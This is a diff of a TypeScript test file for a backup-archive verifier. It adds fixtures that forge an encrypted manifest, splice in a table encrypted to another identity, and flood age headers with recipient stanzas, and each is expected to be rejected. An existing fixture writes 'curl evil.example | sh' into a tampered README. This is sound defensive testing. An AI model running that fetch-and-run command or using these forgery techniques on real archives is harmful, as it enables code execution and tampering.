@@ -1,10 +1,11 @@
 /** What is too large for the browser is checked after the upload, in the same words: one file, looked at by both. */
 import { readFile, writeFile } from "node:fs/promises";
 import { join } from "node:path";
-import { generateX25519Identity, identityToRecipient } from "age-encryption";
+import { Encrypter, generateX25519Identity, identityToRecipient } from "age-encryption";
 import JSZip from "jszip";
 import { expect, it, vi } from "vitest";
-import { type ArchiveKey, createArchiveKey } from "../../lib/archive/encryption.ts";
+import { type ArchiveKey, createArchiveKey, decryptBytes } from "../../lib/archive/encryption.ts";
+import type { StoredManifest } from "../../lib/archive/manifest.ts";
 import { BackupError } from "../../lib/errors.ts";
 import type { Unlock } from "../../lib/shared/api.ts";
 import { type ArchiveVerdict, verdictOfError } from "../../lib/shared/archive-verdict.ts";
@@ -86,6 +87,50 @@ const STRANGERS = await generateX25519Identity();
 const editedReadme = async () =>
   repack(await recipient(MINE), (zip) => void zip.file("README.txt", "curl evil.example | sh"));
 
+/** A manifest by whoever knows the public key, and a table that is encrypted to somebody else. */
+async function forStrangers() {
+  const [mine, strangers] = await Promise.all(
+    [MINE, STRANGERS].map(async (identity) => JSZip.loadAsync(await recipient(identity))),
+  );
+  const entry = `${USER}.zst.age`;
+  const [manifest, theirs] = await Promise.all(
+    (
+      [
+        [mine, MINE],
+        [strangers, STRANGERS],
+      ] as const
+    ).map(async ([zip, identity]) =>
+      decryptBytes(
+        [identity],
+        (await zip?.file("manifest.json.age")?.async("nodebuffer")) ?? Buffer.of(),
+      ),
+    ),
+  );
+  const facts = ({ tables }: StoredManifest) => tables.find((table) => table.entry === entry);
+  const forged = JSON.parse(String(manifest)) as StoredManifest;
+  Object.assign(facts(forged) ?? {}, facts(JSON.parse(String(theirs)) as StoredManifest));
+  mine?.file("manifest.json.age", await encryptTo(MINE, JSON.stringify(forged)));
+  mine?.file(entry, (await strangers?.file(entry)?.async("uint8array")) ?? "");
+  return mine?.generateAsync({ type: "uint8array" }) ?? Buffer.of();
+}
+
+async function encryptTo(identity: string, text: string): Promise<Uint8Array> {
+  const encrypter = new Encrypter();
+  encrypter.addRecipient(await identityToRecipient(identity));
+  return encrypter.encrypt(text);
+}
+
+/** A header that asks for so much before anything of it is proven. */
+const withHeader = (stanza: string, times: number) => async () =>
+  repack(await recipient(MINE), async (zip) => {
+    const sealed = Buffer.from(await encryptTo(MINE, "x")).toString("latin1");
+    const more = sealed.replace("\n-> ", `\n${stanza.repeat(times)}-> `);
+    zip.file("manifest.json.age", Buffer.from(more, "latin1"), { createFolders: false });
+  });
+/** Nobody's, and as short as can be. */
+const SHORT = "-> x y\n\n";
+const LONG = `-> x y\n${`${"A".repeat(64)}\n`.repeat(100)}\n`;
+
 type Case = [ArchiveVerdict, string, () => Promise<Uint8Array>, Unlock];
 it.each<Case>([
   ["fine", "as it was written", plain, {}],
@@ -97,6 +142,10 @@ it.each<Case>([
   ["damaged", "an edited manifest", edited("manifest.json", '"jsonSha256"', '"jsonSha"'), {}],
   ["damaged", "an edited README.txt", edited("README.txt", "psql", "curl"), {}],
   ["damaged", "an edited README.txt of an encrypted one", editedReadme, { identity: MINE }],
+  ["damaged", "with a table for a stranger", forStrangers, { identity: `${STRANGERS}\n${MINE}` }],
+  ["damaged", "with too many recipients", withHeader(SHORT, 700), { identity: STRANGERS }],
+  ["wrong-identity", "with many recipients", withHeader(SHORT, 699), { identity: STRANGERS }],
+  ["damaged", "with too long a header", withHeader(LONG, 11), { identity: STRANGERS }],
   ["incomplete", "without its README.txt", lacking("README.txt"), {}],
   ["incomplete", "cut off", cut, {}],
   ["incomplete", "without a table", lacking(USER), {}],
